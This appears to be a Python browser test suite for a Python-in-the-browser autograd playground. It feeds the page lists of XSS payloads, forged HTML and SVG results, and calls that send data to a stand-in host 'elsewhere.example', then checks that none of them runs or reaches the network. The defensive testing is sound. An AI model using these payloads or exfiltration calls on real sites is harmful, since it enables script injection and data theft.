"""Hostile links, labels and programs: nothing runs that the reader did not start; nothing reaches page or network."""

import json
from base64 import urlsafe_b64encode
from random import Random

from tests.support.hostile_texts import WORDS

ATTACKS = [
    "<script>top.hacked = 1</script>", "</script><script>top.hacked=1</script>", "<img src=x onerror=hacked=1>",
    '"><svg onload=hacked=1>', "</textarea><img src=x onerror=hacked=1>", "javascript:hacked=1", "<!--<script>",
    "]]><script>hacked=1</script>", "</title><script>hacked=1</script>", "\u2028hacked=1", "${hacked=1}",
    "</template><img src=x onerror=hacked=1>", "&lt;img src=x onerror=hacked=1&gt;", "</style><style>*{display:none}"]


def link(text):
    return f"#py={urlsafe_b64encode(text.encode()).decode().rstrip('=')}"


def harmless(opened):
    """Nothing of a text ran, in the page or in the frame."""
    assert opened.page.script("return typeof hacked") == "undefined"
    with opened.page.frame("#player") as player:
        assert player.script("return typeof hacked") == "undefined"
    assert not [error for error in opened.page.errors() if "Refused" in error and "inline" in error]


def test_hostile_links_show_a_text_or_say_that_they_are_damaged(playground):
    opened = playground("#lang=en&py=")
    random = Random(0)
    alphabet = "abcXYZ019-_=&%#+/?<>\"'(){}\\;: \n\u2028é梯𝛁"
    links = [link(text) for text in ATTACKS] + [f"#py={text}" for text in ATTACKS] + [
        "#py", "#py=a", "#py=____", "#py=%00", "#py=" + "A" * 200_000, "#lang=fr", "#lang=__proto__&py=YQ",
        "#__proto__=1", "#py=YQ&py=Yg", "#constructor=1&py=YQ"] + [
        "#py=" + "".join(random.choices(alphabet, k=random.randint(1, 60))) for _ in range(150)] + [
        "#" + "".join(random.choices(alphabet, k=random.randint(1, 60))) for _ in range(50)]
    for hash in links:
        opened.page.script("problem.textContent = ''; location.hash = arguments[0];", hash)
        opened.page.wait(lambda: opened.page.script("return new Promise(r => setTimeout(() => r(true), 5))"))
        assert opened.problem() in ("", "The link is damaged: it contains no program that can be read."), hash
    for text in ATTACKS:
        opened.page.script("location.hash = arguments[0]", link(text))
        opened.page.wait(lambda text=text: opened.page.find("#code").get_property("value") == text.replace("\r", "\n"))
        assert opened.page.find("#from-link").is_displayed()
    assert opened.page.script("return typeof hacked") == "undefined"
    assert not opened.busy()
    assert not opened.page.find("#player").is_displayed()
    assert opened.page.errors() == []


def test_hostile_labels_and_outputs_are_texts(playground):
    opened = playground("#lang=en&py=")
    for attack in [*ATTACKS, *(word for word in WORDS if word.isprintable() and len(word) < 40), *"\0\u202e\ud800"]:
        program = ("from autograd import Value\n"
                   f"a = Value(2.0, label={attack!r})\nb = a * a\nb.label = {attack!r}\nprint({attack!r})\nb")
        opened.run(program)
        assert opened.problem() == "", (attack, opened.problem())
        harmless(opened)
    opened.run(f"raise ValueError({''.join(ATTACKS)!r})")
    assert "<script>top.hacked = 1</script>" in opened.problem()
    assert opened.page.script("return document.querySelectorAll('img').length") == 0


OUT = [
    "js.fetch('https://elsewhere.example/' + 'secret')",
    "r = js.XMLHttpRequest.new()\nr.open('GET', 'https://elsewhere.example/', False)\nr.send()",
    "js.WebSocket.new('wss://elsewhere.example/')",
    "js.importScripts('https://elsewhere.example/a.js')",
    "js.eval('1 + 1')",
    "js.Worker.new('data:text/javascript,fetch(\"https://elsewhere.example/\")')",
    "js.Worker.new(js.URL.createObjectURL(js.Blob.new(['fetch(\"https://elsewhere.example/\")'])))",
    "js.EventSource.new('https://elsewhere.example/')",
    "js.navigator.sendBeacon('https://elsewhere.example/', 'x')",
    "js.document.title",
    "js.localStorage.x",
    "import urllib.request\nurllib.request.urlopen('http://elsewhere.example/')",
    "import subprocess\nsubprocess.run(['ls'])"]


def test_a_program_reaches_neither_the_network_nor_the_page(playground):
    """Even one that the reader has started: what goes out is stopped by the page's policy, which binds its worker."""
    opened = playground("#lang=en&py=")
    for attempt in OUT:
        opened.run(f"import js\n{attempt}")
        assert opened.problem(), attempt
    opened.run("import time\ntime.sleep(0.5)")      # a request would be on its way
    assert opened.page.requests_outside() == []


def forged(id, **fields):
    """A program that posts a result of its own; runs are counted from 1."""
    done = {"root": "x", "nodes": 1, "cards": 1, "numbers": [], "seconds": 0} | fields
    return f"import js\njs.postMessage(js.JSON.parse({json.dumps({'id': id, 'done': done})!r}))\n"


SVG = "<svg xmlns='http://www.w3.org/2000/svg'>{}</svg>"
FORGED = [{"html": html} for html in (
    "<script src='https://elsewhere.example/a.js'></script>", "<img src=x onerror='hacked = 1'>",
    "<p onclick='hacked = 1'>",
    "<meta http-equiv='refresh' content='0;url=https://elsewhere.example/'>",
    "<a href='https://elsewhere.example/'>x</a>",
    "<link rel=preconnect href='https://elsewhere.example/'>", "<form action='https://elsewhere.example/'></form>",
    "<template><img src='https://elsewhere.example/'></template>",
    "<template><template><a href=x></template></template>",
    "<noscript><p title='</noscript><img src=https://elsewhere.example/>'></noscript>",
    "<p style='background: url(https://elsewhere.example/)'>", "<iframe srcdoc='<script>hacked=1</script>'></iframe>",
    "<base href='https://elsewhere.example/'>", "<svg><image href='https://elsewhere.example/'/></svg>", "<math><mi>",
    "<svg><style>@import 'https://elsewhere.example/'</style><a></svg>")] + [{"svg": svg} for svg in (
        SVG.format("<script>hacked=1</script>"), "<svg xmlns='http://www.w3.org/2000/svg' onload='hacked=1'/>",
        SVG.format("<foreignObject/>"), "not xml", "<?xml-stylesheet href='https://elsewhere.example/'?>" + SVG,
        "<!DOCTYPE svg [<!ENTITY x 'y'>]>" + SVG, SVG.format("<g fill='url(https://elsewhere.example/)'/>"),
        SVG.format("<a href='javascript:hacked=1'/>"), SVG.format("<style>*{}</style>"), "<html/>")]


def test_a_forged_result_is_not_shown(playground):
    """A program can post to the page what it likes."""
    opened = playground("#lang=en&py=")
    for id, fields in enumerate(FORGED, 1):
        opened.run(forged(id, **{"html": "<p>fine</p>", "svg": SVG.format("")} | fields))
        assert opened.problem() == "The program sent something that is no result of this page. It is not shown.", fields
        assert not opened.page.find("#player").is_displayed()
    assert opened.page.requests_outside() == []
    inline = "<script>hacked = top.hacked = 1; top.location = 'https://elsewhere.example/'</script><p id='fine'>x</p>"
    opened.run(forged(len(FORGED) + 1, html=inline, svg=SVG.format(""), root="<img src=x onerror=hacked=1>", numbers=[
        {"name": "<b>", "formula": "<img src=x onerror=hacked=1>", "value": "1", "gradient": "1"}]))
    with opened.page.frame("#player") as player:        # shown, but the policy knows no such script
        assert player.text("#fine") == "x"
        assert player.script("return typeof hacked") == "undefined"
    assert opened.page.script("return typeof hacked") == "undefined"
    assert opened.page.script("return document.querySelectorAll('#numbers b, #numbers img').length") == 0
    assert opened.page.requests_outside() == []


def test_messages_that_mean_nothing_are_ignored(playground):
    opened = playground("#lang=en&py=")
    opened.run("import js\nfor text in ('null', '1', '{}', '{\"ready\": 1}', '{\"stage\": \"drawing\"}', '[]'):\n"
               "    js.postMessage(js.JSON.parse(text))")
    opened.run("from autograd import Value\na = Value(3.0)\nb = a * a\nb")
    assert opened.numbers()["a"] == ("3.0", "6.0")
